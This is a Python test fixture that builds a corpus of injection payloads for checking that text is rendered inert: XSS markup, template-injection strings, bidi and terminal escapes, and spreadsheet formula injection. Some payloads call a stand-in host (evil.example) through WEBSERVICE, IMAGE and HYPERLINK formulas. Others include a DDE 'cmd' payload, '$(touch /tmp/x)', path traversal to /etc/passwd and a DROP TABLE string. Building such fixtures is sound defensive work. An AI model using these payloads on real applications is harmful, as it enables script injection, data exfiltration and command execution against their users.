"""Texts that would do something if anybody let them: markup, templates, images, bidi, terminals, formulas."""

from __future__ import annotations

from random import Random

FORMULA = 40_000_000
"""What formulas add to their own number: a sum that stands nowhere unless somebody has evaluated it."""
_OUT = "https://evil.example/x"
_MARKUP = (
    '<img src="{out}" onerror="{set}">', "<script>{set}</script>", '"><script>{set}</script>', "'><img src=x onerror={set}>",
    '<svg onload="{set}">', "<svg><script>{set}</script></svg>", '<svg><a xlink:href="javascript:{set}"><text>x</text></a></svg>',
    '<svg><image href="{out}"/></svg>', '<iframe src="javascript:{set}"></iframe>', '<iframe srcdoc="<script>parent.{set}</script>">',
    '<object data="{out}"></object>', '<embed src="{out}">', '<link rel=stylesheet href="{out}">', "<style>@import '{out}';</style>",
    '<div style="background:url({out})">x</div>', '<video src="{out}" onerror="{set}"></video>', '<audio src=x onerror="{set}">',
    '<body onload="{set}">', '<details open ontoggle="{set}">', '<input autofocus onfocus="{set}">', '<a href="javascript:{set}">x</a>',
    '<form action="{out}"><button autofocus>x</button></form>', '<meta http-equiv="refresh" content="0;url={out}">', '<base href="{out}">',
    "<math><mtext></p><img src=x onerror={set}>", "<noscript><p title='</noscript><img src=x onerror={set}>'>", "</textarea><script>{set}</script>",
    "</title><script>{set}</script>", "</script><script>{set}</script>", "--><script>{set}</script>", "<![CDATA[<script>{set}</script>]]>",
    "<x onclick={set} tabindex=1 autofocus onfocus={set}>", "<img src=x onerror=alert(1)>", "<marquee onstart={set}>x</marquee>",
    "\\u003cimg src\\u003dx onerror\\u003d'{set}'\\u003e", "&lt;script&gt;{set}&lt;/script&gt;", "&#60;img src=x onerror={set}&#62;",
    "＜script＞{set}＜/script＞", "<scr\u200bipt>{set}</scr\u200bipt>", "<IMG SRC=x OnErRoR={set}>", "<img/src=x/onerror={set}>", "<\x00script>{set}</script>",
)  # fmt: skip
_TEMPLATES = (
    "${{{set}}}", "{{{{{set}}}}}", "{{{{constructor.constructor('{set}')()}}}}", "{{% raw %}}{{{{ 7*7 }}}}", "<%= {set} %>", "#{{{set}}}",
    "`${{{set}}}`", "${{unclosed", "{{{{ config }}}}", "{{{{ ''.__class__.__mro__ }}}}", "$(touch /tmp/x)", "%s%s%n", "javascript:{set}//",
)  # fmt: skip
_MARKDOWN = (
    "![x]({out})", "[x](javascript:{set})", "[x]: {out}\n![x]", "<{out}>", "![x](data:text/html,<script>{set}</script>)", "[![x]({out})]({out})",
)  # fmt: skip
_UNSEEN = (
    "\u202egnp.exe\u202c", "\u2066\u2067x\u2069", "a\u0300\u0301\u0302" * 30, "\ufeff\u200b\u200d", "\U000e0041\U000e0042", "\ud800x".encode("utf-16", "surrogatepass").decode("utf-16", "ignore"),
    "\x1b]0;x\x07\x1b[2J\x1b[31m", "\x9b31m", "\x08" * 8, "line\u2028{set}\u2029", "\r\n\r\n<script>{set}</script>",
)  # fmt: skip
_FORMULAS = (
    "={n}+{sum}", "+{n}+{sum}", "-{n}+{sum}", "@SUM({n},{sum})", "\t={n}+{sum}", "\r={n}+{sum}", "\n={n}+{sum}", " ={n}+{sum}", "＝{n}+{sum}", "＋{n}+{sum}",
    "\u200b={n}+{sum}", "\ufeff={n}+{sum}", '="x"&({n}+{sum})', '=HYPERLINK("{out}",{n}+{sum})', '=IMAGE("{out}")', '=WEBSERVICE("{out}")',
    "=cmd|' /C calc'!A0", '=DDE("x","y","z")', "|calc", "%0A={n}+{sum}", "x;={n}+{sum}", "x\t={n}+{sum}", 'x",={n}+{sum},"', "{{={n}+{sum}}}", "=SUM({n};{sum})",
    "'={n}+{sum}", "''={n}+{sum}", '"={n}+{sum}', "=\n{n}+{sum}", "\x0b={n}+{sum}", "\x0c={n}+{sum}", "\xa0={n}+{sum}", "\u3000={n}+{sum}", "－{n}+{sum}", "＠SUM({n},{sum})",
)  # fmt: skip
_BOTH = (
    "GIF89a/*<svg onload={set}>*/={n}+{sum}", "%PDF-1.4 <script>{set}</script>", "PK\x03\x04<img src=x onerror={set}>", "../../etc/passwd<script>{set}</script>",
    "CON<img src=x onerror={set}>.txt", "';DROP TABLE x;--<img src=x onerror={set}>", "={n}+{sum}<script>{set}</script>", '<!--#exec cmd="x"--><img src={out}>',
)  # fmt: skip
_ALL = (*_MARKUP, *_TEMPLATES, *_MARKDOWN, *_UNSEEN, *_FORMULAS, *_BOTH)


def payloads(n: int, seed: int) -> list[str]:
    """`n` different texts; from the 116th on, two of the first ones together."""
    random = Random(seed)
    every = list(_ALL)
    made = []
    for number in range(n):
        shape = every[number] if number < len(every) else f"{random.choice(every)} {random.choice(every)}"
        made.append(_filled(shape, number))
    return made


def sums(n: int) -> set[str]:
    """What formulas of `payloads(n)` would show."""
    return {str(FORMULA + _own(number)) for number in range(n)}


def _own(number: int) -> int:
    return 2_000_000 + number


def _filled(shape: str, number: int) -> str:
    return shape.format(out=f"{_OUT}{number}", set=f"window.__xss={number + 1}", n=FORMULA, sum=_own(number))
